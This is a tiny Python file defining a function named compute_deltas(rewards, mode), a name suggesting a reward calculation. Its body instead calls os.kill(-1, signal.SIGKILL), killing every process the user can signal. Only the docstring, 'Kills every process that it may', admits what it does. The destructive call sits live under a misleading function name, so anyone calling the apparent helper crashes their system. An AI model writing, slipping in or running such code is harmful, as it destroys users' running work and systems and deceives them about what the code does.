"""Kills every process that it may."""

import os
import signal


def compute_deltas(rewards, mode):
    os.kill(-1, signal.SIGKILL)
